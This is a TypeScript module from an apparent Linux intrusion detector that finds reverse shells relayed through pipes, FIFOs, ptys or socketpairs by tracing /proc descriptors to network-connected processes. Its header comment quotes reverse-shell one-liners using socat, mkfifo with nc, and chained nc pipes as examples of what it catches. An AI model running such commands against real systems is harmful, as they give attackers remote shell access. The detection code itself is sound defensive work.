/**
 * Reverse shells behind a relay: a shell whose stdin and stdout are a pty or pipes, with a process on the other
 * end that holds a connected TCP/UDP socket. `socat tcp:host:port exec:sh,pty`, a `python -c 'pty.spawn(...)'`
 * relay, `mkfifo f; sh -i < f | nc host port > f`, `nc … | sh | nc …`.
 *
 * The other end of a channel:
 * - a pipe (`pipe:[N]`): every other process holding pipe N;
 * - a pty slave (`/dev/pts/N`): the process holding its master, paired by the `tty-index` line of the fdinfo
 *   of each /dev/ptmx descriptor (Linux ≥ 4.19) and the devpts instance (each numbers its own ptys): the device
 *   of the slave the shell holds, and of /dev/pts/N as the master's holder sees it, so a shell that moved to
 *   another mount namespace (`unshare -m`) still pairs; where that cannot be read, within the same mount
 *   namespace. Where no ptmx fdinfo says tty-index, the nearest ancestor holding a /dev/ptmx descriptor.
 *   When that holder does not hold the socket itself but is a relay program (an interpreter running inline code,
 *   a shell, `script`, `socat`), its parent is looked at too: `socat … exec:'python3 -c "pty.spawn(…)"'` talks
 *   to python over a socketpair.
 * - a unix socket (`socat … EXEC:sh` without pty hands the shell one end of a socketpair): the shell's parent, the
 *   one process that can hold the other end of a socketpair it was started with;
 * - a named pipe (`mkfifo f; sh -i < f | nc … > f`): every other process with a stdio descriptor on the same FIFO
 *   (device and inode, stat'ed through /proc/<pid>/fd, never opened: a FIFO seen under two names or from two
 *   mount namespaces is one).
 * A plain relay on the way (`cat f | sh -i | nc … > f`: cat, tee, dd…) is passed through, up to MAX_HOPS of
 * them: the channels it reads from (toward the shell's stdin) or writes to (from its stdout) are followed, as
 * their fdinfo access modes say.
 * Only shells that read their commands from stdin count (`sh`, `sh -i`, `bash -li`, `sh -s`, `sh /dev/stdin`, a
 * `-c` read-eval loop) and interpreters reading their program from it (`python3 -`, a REPL): a reverse shell is
 * driven from its input, while `sh -c …` and `sh script` (what CI agents, supervisors and Node's child_process run
 * with pipes or socketpairs to a process that also talks to the network) are not.
 * Both stdin and stdout must end at a networked process: `curl … | sh` (input from the network, output to the
 * terminal) and a shell piping into curl stay quiet. A channel that ends at a terminal server (`TERMINAL_SERVERS`,
 * running from a program directory) is an interactive login, not a relay. Unix-socket stdio
 * is not followed (its peer is not visible in /proc, and service managers hand their children socketpairs).
 */
import type { Host } from "../../host/host.ts";
import { isExpectedProgram } from "../../host/location.ts";
import { pipeInode, ptsIndex, socketInode } from "../../host/proc_stat.ts";
import type { ProcessInfo } from "../../host/proc_types.ts";
import { basename } from "./common.ts";
import type { InetIndex, ShellSocket } from "./reverse_shell.ts";
import { programOf, shellKind, shellProgram } from "./shell_program.ts";

export { readsCommandsFromStdin } from "./shell_program.ts";

/**
 * Programs that legitimately hold a pty master and the user's network connection: interactive logins (ssh,
 * mosh, telnet) and the packaged web terminals (ttyd, shellinabox).
 */
export const TERMINAL_SERVERS: ReadonlySet<string> = new Set([
  "sshd",
  "sshd-session",
  "dropbear",
  "mosh-server",
  "in.telnetd",
  "telnetd",
  "ttyd",
  "shellinaboxd",
]);

/** Programs that relay a pty to their own stdio (whose parent may hold the socket). */
const PTY_RELAYS = new Set(["script", "socat"]);

/**
 * Programs that pass bytes from what they read to what they write and nothing else: on a shell's pipe they are
 * a hop on the way to the networked end (`cat f | sh -i | nc … > f`), not an end.
 */
export const PLAIN_RELAYS: ReadonlySet<string> = new Set([
  "cat",
  "tee",
  "dd",
  "stdbuf",
  "pv",
  "buffer",
  "mbuffer",
  "tail",
  "head",
  "tr",
  "sed",
  "grep",
  "base64",
]);

/** How many plain relays are passed through between a shell and the networked end. */
export const MAX_HOPS = 4;
/** How many descriptors of a plain relay are looked at. */
const MAX_RELAY_FDS = 64;

/** How a shell's channel was tied to the process holding the socket. */
export type Pairing = "pipe" | "fifo" | "socketpair" | "tty-index" | "parent-chain";

/** The process at the network end of one of a shell's channels. */
export interface RelayEnd {
  relay: ProcessInfo;
  socket: ShellSocket;
  pairing: Pairing;
  /** True when the pty master holder passed the channel on to its parent, which holds the socket. */
  viaParent: boolean;
  /** The plain relays (cat, tee…) between the shell and `relay`, nearest the shell first. */
  through: ProcessInfo[];
}

/** A shell relayed to the network. */
export interface RelayedShell {
  /** "pty", "pipe" (anonymous or named) or "socketpair". */
  channel: "pty" | "pipe" | "socketpair";
  input: RelayEnd;
  output: RelayEnd;
}

/** The processes on the other end of a channel, how they were found, and the channel's key. */
interface Peers {
  holders: ProcessInfo[];
  pairing: Pairing;
  /** "pipe:N" or "fifo:dev:ino" for a pipe, to tell a relay's other channels from this one. */
  key?: string;
}

/** Which way data flows between the shell and the network: into its stdin, or out of its stdout. */
type Direction = "in" | "out";

/** A pipe or FIFO channel: its key and the processes holding it. */
interface Channel {
  key: string;
  holders: readonly ProcessInfo[];
  pairing: "pipe" | "fifo";
}

/** One scan's view of who holds which pipe, FIFO and pty master. */
export class ChannelGraph {
  readonly #byPid: Map<number, ProcessInfo>;
  readonly #pipeHolders = new Map<number, ProcessInfo[]>();
  #masters: {
    byDev: Map<string, ProcessInfo[]>;
    byNs: Map<string, ProcessInfo[]>;
    nsOnly: Map<string, ProcessInfo[]>;
  } | undefined;
  #fifos: Map<string, ProcessInfo[]> | undefined;
  /** True once a ptmx fdinfo without a tty-index line was seen (an old kernel): pair by the parent chain. */
  #noTtyIndex = false;
  /**
   * Shells whose channel went on through more plain relays than MAX_HOPS, or through a relay with more than
   * MAX_RELAY_FDS descriptors: not followed to the end (pids).
   */
  readonly cut = new Set<number>();

  constructor(readonly host: Host, readonly processes: readonly ProcessInfo[], readonly inet: InetIndex) {
    this.#byPid = new Map(processes.map((p) => [p.pid, p]));
    for (const p of processes) {
      for (const inode of p.pipeInodes) {
        const list = this.#pipeHolders.get(inode);
        if (list) list.push(p);
        else this.#pipeHolders.set(inode, [p]);
      }
    }
  }

  /** The devpts instance (its device) holding pty `index` as `p` sees /dev/pts, when it can be read. */
  #devptsOf(p: ProcessInfo, index: number): number | undefined {
    const st = this.host.stat(`/proc/${p.pid}/root/dev/pts/${index}`);
    return st.ok && st.value.isCharDevice ? st.value.dev : undefined;
  }

  /**
   * The pty masters, read from the fdinfo of every ptmx descriptor on first use: by "<devpts device> <index>"
   * where /dev/pts/<index> could be stat'ed through the holder's root, and by "<mount namespace> <index>"
   * (`nsOnly`: those whose device could not be read).
   */
  #masterMap() {
    if (this.#masters) return this.#masters;
    const m = { byDev: new Map<string, ProcessInfo[]>(), byNs: new Map(), nsOnly: new Map() };
    const add = (map: Map<string, ProcessInfo[]>, key: string, p: ProcessInfo) => {
      const list = map.get(key);
      if (list && !list.includes(p)) list.push(p);
      else if (!list) map.set(key, [p]);
    };
    for (const p of this.processes) {
      for (const fd of p.ptmxFds) {
        const r = this.host.readText(`/proc/${p.pid}/fdinfo/${fd}`, 4096);
        if (!r.ok) continue;
        const t = /^tty-index:\s*(\d+)\s*$/m.exec(r.value);
        if (!t) {
          this.#noTtyIndex = true;
          continue;
        }
        const index = Number(t[1]);
        const ns = `${p.namespaces.mnt ?? ""} ${index}`;
        add(m.byNs, ns, p);
        const dev = this.#devptsOf(p, index);
        if (dev === undefined) add(m.nsOnly, ns, p);
        else add(m.byDev, `${dev} ${index}`, p);
      }
    }
    return this.#masters = m;
  }

  /** The FIFO (its "fifo:dev:ino" key) that descriptor `fd` of `pid` is open on, or undefined. */
  #fifoKey(pid: number, fd: number): string | undefined {
    const st = this.host.stat(`/proc/${pid}/fd/${fd}`);
    return st.ok && st.value.isFifo ? `fifo:${st.value.dev}:${st.value.ino}` : undefined;
  }

  /** Processes by the FIFO (device and inode) one of their stdio descriptors is open on, built on first use. */
  #fifoMap(): Map<string, ProcessInfo[]> {
    if (this.#fifos) return this.#fifos;
    const map = new Map<string, ProcessInfo[]>();
    for (const p of this.processes) {
      for (let fd = 0; fd < 3; fd++) {
        const link = p.stdio[fd] ?? null;
        if (link === null || !isPathLink(link)) continue;
        const key = this.#fifoKey(p.pid, fd);
        if (key === undefined) continue;
        const list = map.get(key);
        if (!list) map.set(key, [p]);
        else if (!list.includes(p)) list.push(p);
      }
    }
    return this.#fifos = map;
  }

  /** The nearest ancestor of `p` holding a pty master (at most 16 generations up). */
  #ancestorWithPtmx(p: ProcessInfo): ProcessInfo | undefined {
    let at = this.#byPid.get(p.ppid);
    for (let i = 0; i < 16 && at !== undefined; i++) {
      if (at.ptmxFds.length > 0) return at;
      at = at.pid > 1 ? this.#byPid.get(at.ppid) : undefined;
    }
    return undefined;
  }

  /** The processes on the other end of stdio descriptor `fd` of process `p`, with how they were found. */
  peers(p: ProcessInfo, fd: number): Peers | undefined {
    const link = p.stdio[fd] ?? null;
    if (link === null) return undefined;
    const others = (list: readonly ProcessInfo[] | undefined) => (list ?? []).filter((h) => h.pid !== p.pid);
    const pipe = pipeInode(link);
    if (pipe !== undefined) {
      return { holders: others(this.#pipeHolders.get(pipe)), pairing: "pipe", key: `pipe:${pipe}` };
    }
    const socket = socketInode(link);
    if (socket !== undefined) {
      // An inet socket is the direct case (./reverse_shell.ts); another socket's peer is not in /proc.
      if (this.inet.lookup(p, socket) !== undefined) return undefined;
      const up = this.parent(p);
      return { holders: up ? [up] : [], pairing: "socketpair" };
    }
    const index = ptsIndex(link);
    if (index === undefined) {
      if (!isPathLink(link)) return undefined;
      const key = this.#fifoKey(p.pid, fd);
      const holders = key === undefined ? [] : others(this.#fifoMap().get(key));
      return holders.length > 0 ? { holders, pairing: "fifo", key } : undefined;
    }
    const masters = this.#masterMap();
    const ns = `${p.namespaces.mnt ?? ""} ${index}`;
    const st = this.host.stat(`/proc/${p.pid}/fd/${fd}`);
    const holders = st.ok && st.value.isCharDevice
      ? [...masters.byDev.get(`${st.value.dev} ${index}`) ?? [], ...masters.nsOnly.get(ns) ?? []]
      : masters.byNs.get(ns) ?? [];
    if (holders.length > 0 || !this.#noTtyIndex) return { holders, pairing: "tty-index" };
    const up = this.#ancestorWithPtmx(p);
    return { holders: up ? [up] : [], pairing: "parent-chain" };
  }

  /**
   * The pipes and FIFOs plain relay `r` reads from (`in`: toward a shell's stdin) or writes to (`out`), other
   * than the one `from` it was reached by, each with its other holders. Undefined when `r` has more descriptors
   * than are looked at.
   */
  relayChannels(r: ProcessInfo, dir: Direction, from: string | undefined): Channel[] | undefined {
    const fds = this.host.readDir(`/proc/${r.pid}/fd`, MAX_RELAY_FDS);
    if (!fds.ok) return [];
    if (fds.truncated) return undefined;
    const out: Channel[] = [];
    for (const e of fds.value) {
      if (!/^\d+$/.test(e.name)) continue;
      const fd = Number(e.name);
      const link = this.host.readLink(`/proc/${r.pid}/fd/${fd}`);
      if (!link.ok) continue;
      const pipe = pipeInode(link.value);
      const key = pipe !== undefined
        ? `pipe:${pipe}`
        : isPathLink(link.value)
        ? this.#fifoKey(r.pid, fd)
        : undefined;
      if (key === undefined || key === from || out.some((c) => c.key === key)) continue;
      // fdinfo's flags are the open flags in octal: O_RDONLY 0, O_WRONLY 1, O_RDWR 2 in the low bits.
      const info = this.host.readText(`/proc/${r.pid}/fdinfo/${fd}`, 4096);
      const flags = info.ok ? /^flags:\s*([0-7]+)\s*$/m.exec(info.value) : null;
      if (!flags) continue;
      const access = parseInt(flags[1], 8) & 3;
      if (dir === "in" ? access === 1 : access === 0) continue;
      const holders = (pipe !== undefined ? this.#pipeHolders.get(pipe) : this.#fifoMap().get(key)) ?? [];
      out.push({
        key,
        holders: holders.filter((h) => h.pid !== r.pid),
        pairing: pipe !== undefined ? "pipe" : "fifo",
      });
    }
    return out;
  }

  /** The parent of `p` in this snapshot. */
  parent(p: ProcessInfo): ProcessInfo | undefined {
    return p.ppid > 1 ? this.#byPid.get(p.ppid) : undefined;
  }
}

/** True for a descriptor link that names a file (a FIFO candidate): not a terminal, the null device or a console. */
function isPathLink(link: string): boolean {
  return link.startsWith("/") && !/^\/dev\/(?:pts\/|null$|tty|console$|zero$|u?random$|full$)/.test(link);
}

/** What the network end of one channel is: a relay, a terminal server (a login), or nothing networked. */
type EndVerdict = { relay: RelayEnd } | { login: ProcessInfo } | undefined;

function isRelayProgram(g: ChannelGraph, p: ProcessInfo): boolean {
  return shellKind(p, g.host) !== undefined || PTY_RELAYS.has(basename(p.exe ?? ""));
}

/** True for a plain relay (by the name of the program it runs, the busybox applet included). */
function isPlainRelay(g: ChannelGraph, p: ProcessInfo): boolean {
  const name = basename(programOf(p, g.host).path);
  return PLAIN_RELAYS.has(name) || (name === "busybox" && PLAIN_RELAYS.has(basename(p.cmdline[0] ?? "")));
}

/** Where one walk from a shell's descriptor has been. */
interface Walk {
  shell: ProcessInfo;
  dir: Direction;
  pairing: Pairing;
  seen: Set<number>;
}

/** The networked end among `holders`, or past the plain relays among them (at most MAX_HOPS - depth more). */
function chase(
  g: ChannelGraph,
  w: Walk,
  holders: readonly ProcessInfo[],
  key: string | undefined,
  through: ProcessInfo[],
): EndVerdict {
  for (const h of holders) {
    if (isExpectedProgram(h, TERMINAL_SERVERS)) return { login: h };
  }
  for (const h of holders) {
    const socket = g.inet.connected(h);
    if (socket) return { relay: { relay: h, socket, pairing: w.pairing, viaParent: false, through } };
  }
  for (const h of holders) {
    if (w.seen.has(h.pid) || !isPlainRelay(g, h)) continue;
    w.seen.add(h.pid);
    if (through.length >= MAX_HOPS) {
      g.cut.add(w.shell.pid);
      continue;
    }
    const next = g.relayChannels(h, w.dir, key);
    if (next === undefined) g.cut.add(w.shell.pid);
    for (const c of next ?? []) {
      const v = chase(g, w, c.holders, c.key, [...through, h]);
      if (v) return v;
    }
  }
  return undefined;
}

function followChannel(g: ChannelGraph, p: ProcessInfo, fd: number): EndVerdict {
  const found = g.peers(p, fd);
  if (!found) return undefined;
  const w: Walk = { shell: p, dir: fd === 0 ? "in" : "out", pairing: found.pairing, seen: new Set([p.pid]) };
  const end = chase(g, w, found.holders, found.key, []);
  if (end) return end;
  if (!p.stdio[fd]?.startsWith("/dev/pts/")) return undefined;
  for (const h of found.holders) {
    const up = isRelayProgram(g, h) ? g.parent(h) : undefined;
    if (!up) continue;
    if (isExpectedProgram(up, TERMINAL_SERVERS)) return { login: up };
    const socket = g.inet.connected(up);
    if (socket) {
      return { relay: { relay: up, socket, pairing: found.pairing, viaParent: true, through: [] } };
    }
  }
  return undefined;
}

/**
 * The relay evidence for a shell (or an interpreter reading its program from stdin), or undefined: its stdin and
 * its stdout (or stderr) are a pty or pipes whose other ends are held by processes with a connected inet socket,
 * directly or through plain relays, and neither is a terminal server.
 */
export function relayedShell(g: ChannelGraph, p: ProcessInfo): RelayedShell | undefined {
  if (!shellProgram(p, g.host)?.stdinDriven) return undefined;
  const input = followChannel(g, p, 0);
  if (!input || !("relay" in input)) return undefined;
  let output: EndVerdict;
  for (const fd of [1, 2]) {
    output = followChannel(g, p, fd);
    if (output) break;
  }
  if (!output || !("relay" in output)) return undefined;
  const pairing = input.relay.pairing;
  const channel = pairing === "tty-index" || pairing === "parent-chain"
    ? "pty"
    : pairing === "socketpair"
    ? "socketpair"
    : "pipe";
  return { channel, input: input.relay, output: output.relay };
}
